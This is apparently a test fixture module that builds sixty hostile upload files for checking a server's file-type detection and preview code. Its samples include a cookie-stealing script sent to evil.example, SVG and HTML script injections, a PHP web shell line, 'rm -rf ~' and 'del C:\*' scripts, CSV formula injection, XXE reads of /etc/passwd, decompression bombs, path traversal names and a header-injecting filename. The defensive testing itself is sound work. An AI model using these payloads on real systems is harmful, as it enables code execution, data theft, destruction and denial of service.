/** Files that are made to do harm, each by a few lines: none of them is kept in the repository. */
import { deflateRawSync, deflateSync } from 'node:zlib';
import {
  docx,
  paragraph,
  pdf,
  pptx,
  xlsx,
  zipOf,
} from '../../apps/api/src/platform/preview/testing.ts';

/** A file with the name that its sender gives it, and what the server must take it for. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly content: Buffer;
  readonly type: string;
  /** How it may be shown. */
  readonly shown: 'none' | 'text' | 'rich' | 'table' | 'pages' | 'picture';
}

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const OFFICE = 'application/vnd.openxmlformats-officedocument';
const DOCX = `${OFFICE}.wordprocessingml.document`;
const XLSX = `${OFFICE}.spreadsheetml.sheet`;
const PPTX = `${OFFICE}.presentationml.presentation`;
const MACRO = 'application/vnd.ms-office.macro';
const TWO = 'application/x-two-kinds';
const PROGRAM = 'application/x-program';
const UNKNOWN = 'application/octet-stream';

/** The smallest picture of a type, with something behind or in it. */
const gif = (more = '') => Buffer.from(`GIF89a\x01\0\x01\0\0\0\0${more};`, 'latin1');
const jpeg = (comment: string) =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, comment.length + 2]),
    Buffer.from(comment),
    Buffer.from([0xff, 0xd9]),
  ]);
const crcs = Uint32Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc = (bytes: Buffer): number =>
  (bytes.reduce((sum, byte) => (crcs[(sum ^ byte) & 255] ?? 0) ^ (sum >>> 8), 0xffffffff) ^
    0xffffffff) >>>
  0;
const chunk = (kind: string, data: Buffer): Buffer => {
  const named = Buffer.concat([Buffer.from(kind), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(data.length, 0);
  ends.writeUInt32BE(crc(named), 4);
  return Buffer.concat([ends.subarray(0, 4), named, ends.subarray(4)]);
};
/** A PNG that states its own size. */
const png = (width: number, height: number, more: Buffer = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
    chunk('IHDR', head),
    more,
    chunk('IDAT', deflateSync(Buffer.alloc(2))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};
const svg = (inner: string, attributes = '') =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inner}</svg>`);
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126), Buffer.from('PE\0\0')]);
const ole = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(1024),
]);
/** A part that unpacks to a thousand times its size. */
const bomb = (bytes: number) => Buffer.alloc(bytes, 0x20);

/** An archive whose list states another size than its part has. */
function lying(): Buffer {
  const file = Buffer.from(docx(paragraph('a'), { 'word/styles.xml': bomb(3_000_000) }));
  for (let at = file.indexOf('PK\x01\x02'); at >= 0; at = file.indexOf('PK\x01\x02', at + 4)) {
    if (file.readUInt32LE(at + 24) === 3_000_000) file.writeUInt32LE(100, at + 24);
  }
  return file;
}

/** An archive that states to hold 60,000 files. */
function crowded(): Buffer {
  const file = Buffer.from(zipOf({ '[Content_Types].xml': 'x', 'word/document.xml': 'x' }));
  const end = file.lastIndexOf('PK\x05\x06');
  file.writeUInt16LE(60_000, end + 8);
  file.writeUInt16LE(60_000, end + 10);
  return file;
}

/** A PDF whose one page draws a stream that unpacks to `bytes`. */
function pdfBomb(bytes: number): Buffer {
  const stream = deflateSync(Buffer.alloc(bytes, '0 0 1 1 re f '));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>endobj\n4 0 obj<</Length ${stream.length}/Filter/FlateDecode>>stream\n`,
    ),
    stream,
    Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
  ]);
}

const nested = (depth: number) =>
  '<w:tbl><w:tr><w:tc>'.repeat(depth) + '</w:tc></w:tr></w:tbl>'.repeat(depth);
const external = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/><Relationship Id="r8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`;
const entity =
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e SYSTEM "file:///etc/passwd">]>';

const file = (
  what: string,
  name: string,
  content: Buffer | string,
  type: string,
  shown: HostileFile['shown'],
): HostileFile => ({
  what,
  name,
  content: typeof content === 'string' ? Buffer.from(content) : content,
  type,
  shown,
});

/** Sixty of them. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  // What a browser would run.
  file('a page as a picture', 'logo.png', `<!doctype html>${SCRIPT}`, 'text/html', 'text'),
  file('a page as a text', 'readme.txt', `<html>${SCRIPT}</html>`, 'text/html', 'text'),
  file('a page behind blanks', 'a.txt', `\n\n   ${SCRIPT}`, 'text/html', 'text'),
  file('a page behind a comment', 'a.pdf', `<!-- plan -->${SCRIPT}`, 'text/html', 'text'),
  file('a page in UTF-16', 'a.csv', Buffer.from(`\ufeff${SCRIPT}`, 'utf16le'), 'text/html', 'text'),
  file(
    'a page of XML',
    'a.xml',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
    'text/html',
    'text',
  ),
  file(
    'a style sheet of XML',
    'a.xml',
    '<?xml version="1.0"?><?xml-stylesheet href="evil.xsl"?><plan/>',
    'text/xml',
    'text',
  ),
  file('a frame', 'a.html', '<iframe src="javascript:alert(1)">', 'text/html', 'text'),
  file('a drawing with a script', 'a.svg', svg(SCRIPT), 'image/svg+xml', 'text'),
  file('a drawing with an event', 'a.svg', svg('', 'onload="alert(1)"'), 'image/svg+xml', 'text'),
  file(
    'a drawing with a page in it',
    'a.svg',
    svg(`<foreignObject>${SCRIPT}</foreignObject>`),
    'image/svg+xml',
    'text',
  ),
  file(
    'a drawing that loads',
    'a.svg',
    svg('<image href="https://evil.example/"/>'),
    'image/svg+xml',
    'text',
  ),
  file('a drawing as a picture', 'a.png', svg(SCRIPT), 'image/svg+xml', 'text'),
  file(
    'a drawing with entities',
    'a.svg',
    `${entity.replace(' x ', ' svg ')}<svg>&b;&e;</svg>`,
    'image/svg+xml',
    'text',
  ),
  file(
    'a drawing behind an instruction',
    'a.svg',
    `<?xml version="1.0"?><!-- a -->${svg(SCRIPT)}`,
    'image/svg+xml',
    'text',
  ),
  file(
    'a mail of HTML',
    'a.mht',
    `MIME-Version: 1.0\nContent-Type: text/html\n\n${SCRIPT}`,
    'text/plain',
    'text',
  ),
  file(
    'a script of JSON',
    'a.json',
    '{"a": "</script><script>alert(1)</script>"}',
    'application/json',
    'text',
  ),
  // Two things at once.
  file('a picture and a page', 'a.gif', gif(SCRIPT), TWO, 'none'),
  file('a picture and a script', 'a.gif', gif('/*<?php system($_GET[0]); ?>*/'), TWO, 'none'),
  file('a photo with a page in its comment', 'a.jpg', jpeg(SCRIPT), TWO, 'none'),
  file(
    'a PNG with a page in its text',
    'a.png',
    png(1, 1, chunk('tEXt', Buffer.from(`x\0${SCRIPT}`))),
    TWO,
    'none',
  ),
  file(
    'a picture and an archive',
    'a.png',
    Buffer.concat([png(1, 1), zipOf({ 'a.class': 'x' })]),
    TWO,
    'none',
  ),
  file('a picture and a PDF', 'a.gif', gif('%PDF-1.4 1 0 obj'), TWO, 'none'),
  file(
    'a PDF and an archive',
    'a.pdf',
    Buffer.concat([pdf(['a']), zipOf({ 'a.exe': exe })]),
    TWO,
    'none',
  ),
  file(
    'a PDF and a page',
    'a.pdf',
    Buffer.concat([Buffer.from(`%PDF-1.4\n%${SCRIPT}\n`), pdf(['a'])]),
    TWO,
    'none',
  ),
  file(
    'a program and an archive',
    'setup.zip',
    Buffer.concat([exe, zipOf({ a: 'a' })]),
    TWO,
    'none',
  ),
  // Programs under other names.
  file('a program as a PDF', 'invoice.pdf', exe, PROGRAM, 'none'),
  file('a program with two names', 'invoice.pdf.exe', exe, PROGRAM, 'none'),
  file('a name that is turned around', 'plan\u202efdp.exe', exe, PROGRAM, 'none'),
  file(
    'a program of Linux',
    'plan.docx',
    Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]),
    PROGRAM,
    'none',
  ),
  file(
    'a program of Java',
    'plan.xlsx',
    zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': 'x' }),
    'application/java-archive',
    'none',
  ),
  file('a shell script as a text', 'plan.txt', '#!/bin/sh\nrm -rf ~\n', 'text/x-script', 'text'),
  file('a batch file as a text', 'plan.txt', '@echo off\r\ndel C:\\*\r\n', 'text/x-script', 'text'),
  file('PHP as a picture', 'a.php.png', '<?php system($_GET[0]);', 'text/x-script', 'text'),
  file(
    'random bytes as a PDF',
    'a.pdf',
    Buffer.from([9, 0, 200, 1, 0, 255, 3, 0]),
    UNKNOWN,
    'none',
  ),
  // Office files that do something.
  file(
    'macros in a document',
    'a.docx',
    docx(paragraph('a'), { 'word/vbaProject.bin': ole }),
    MACRO,
    'none',
  ),
  file(
    'macros in a workbook',
    'a.xlsx',
    xlsx([['a']], { 'xl/vbaProject.bin': ole }),
    MACRO,
    'none',
  ),
  file(
    'macros of the old kind',
    'a.xlsx',
    xlsx([['a']], { 'xl/macrosheets/sheet1.xml': '<a/>' }),
    MACRO,
    'none',
  ),
  file(
    'a workbook in the binary form',
    'a.xlsx',
    zipOf({ '[Content_Types].xml': 'x', 'xl/workbook.bin': 'x' }),
    MACRO,
    'none',
  ),
  file('an old workbook', 'a.xlsx', ole, 'application/x-ole-storage', 'none'),
  file(
    'links that run',
    'a.docx',
    docx('<w:p><w:hyperlink r:id="r9"><w:r><w:t>Plan</w:t></w:r></w:hyperlink></w:p>', {
      'word/_rels/document.xml.rels': external,
    }),
    DOCX,
    'rich',
  ),
  file(
    'HTML as text',
    'a.docx',
    docx(paragraph('&lt;script&gt;alert(1)&lt;/script&gt;')),
    DOCX,
    'rich',
  ),
  file(
    'entities in a document',
    'a.docx',
    docx('', { 'word/document.xml': `${entity}<w:document>&e;&b;</w:document>` }),
    DOCX,
    'none',
  ),
  file('tables within tables', 'a.docx', docx(nested(20_000)), DOCX, 'none'),
  file('a formula that calls', 'a.csv', 'a,b\n=cmd|"/c calc"!A1,2\n', 'text/csv', 'table'),
  file(
    'a formula in a workbook',
    'a.xlsx',
    xlsx([['=HYPERLINK(&quot;https://evil.example&quot;)', 1]]),
    XLSX,
    'table',
  ),
  file(
    'a slide with a script',
    'a.pptx',
    pptx(['&lt;script&gt;alert(1)&lt;/script&gt;']),
    PPTX,
    'text',
  ),
  // Bombs.
  file(
    'a document that unpacks to much',
    'a.docx',
    docx(paragraph('a'), { 'word/styles.xml': bomb(40_000_000) }),
    DOCX,
    'none',
  ),
  file(
    'a document of a bad ratio',
    'a.docx',
    docx(`${paragraph('a')}${' '.repeat(20_000_000)}`),
    DOCX,
    'none',
  ),
  file('a document that lies about its size', 'a.docx', lying(), DOCX, 'none'),
  file(
    'a workbook of long texts',
    'a.xlsx',
    xlsx([['a']], { 'xl/sharedStrings.xml': bomb(40_000_000) }),
    XLSX,
    'none',
  ),
  file(
    'slides that unpack to much',
    'a.pptx',
    zipOf({
      '[Content_Types].xml': 'x',
      'ppt/presentation.xml': 'x',
      'ppt/slides/slide1.xml': bomb(40_000_000),
    }),
    PPTX,
    'none',
  ),
  file('an archive of 60,000 files', 'a.docx', crowded(), 'application/zip', 'none'),
  file('a PNG of billions of pixels', 'a.png', png(60_000, 60_000), 'image/png', 'none'),
  file('a PDF that draws for ever', 'a.pdf', pdfBomb(200_000_000), 'application/pdf', 'pages'),
  file(
    'a PDF as large as a house',
    'a.pdf',
    pdf(['a'], { box: '0 0 1000000 1000000' }),
    'application/pdf',
    'pages',
  ),
  file(
    'a PDF with a script',
    'a.pdf',
    pdf(['a'], { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
    'application/pdf',
    'pages',
  ),
  // Names that lead elsewhere, in the file and of it.
  file(
    'paths in an archive',
    '../../etc/passwd',
    zipOf({ '../../../evil.txt': 'x', '/etc/evil': 'x' }),
    'application/zip',
    'none',
  ),
  file(
    'paths in a document',
    'C:\\a\\..\\evil.docx',
    docx(paragraph('a'), { '../../word/document.xml': 'x' }),
    DOCX,
    'rich',
  ),
  file(
    'a name that ends the header',
    'a"\r\nSet-Cookie: x=1\r\n\r\n.txt',
    deflateRawSync('x'.repeat(99)),
    UNKNOWN,
    'none',
  ),
];
